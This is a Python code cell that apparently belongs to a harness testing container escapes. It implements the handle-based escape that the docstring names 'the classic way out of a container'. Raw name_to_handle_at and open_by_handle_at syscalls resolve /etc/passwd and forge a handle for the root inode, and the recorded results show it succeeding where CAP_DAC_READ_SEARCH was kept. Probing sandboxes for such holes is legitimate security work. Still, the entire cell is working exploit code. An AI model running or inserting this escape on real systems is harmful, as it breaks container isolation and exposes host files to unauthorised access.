"""Opens a file by its handle, which knows no mount namespace: the classic way out of a container.

naive: 2/2, where the container kept CAP_DAC_READ_SEARCH.
uses: attempt
reached: 3 attempts, through: []
"""

# %%
handle = ctypes.create_string_buffer(160)
ctypes.c_uint32.from_buffer(handle).value = 128
mount = ctypes.c_int()
attempt("name", lambda: syscall(303, 264, -100, b"/etc/passwd", handle, ctypes.byref(mount), 0))
ctypes.c_uint32.from_buffer(handle).value = 8
ctypes.c_uint64.from_buffer(handle, 8).value = 2  # the root folder's inode, as a rule
root = os.open("/", os.O_RDONLY)
attempt("open", lambda: syscall(304, 265, root, handle, os.O_RDONLY))
attempt("open from here", lambda: syscall(304, 265, -100, handle, os.O_RDONLY))
print(f"{len(tried)} attempts, through: {through}")
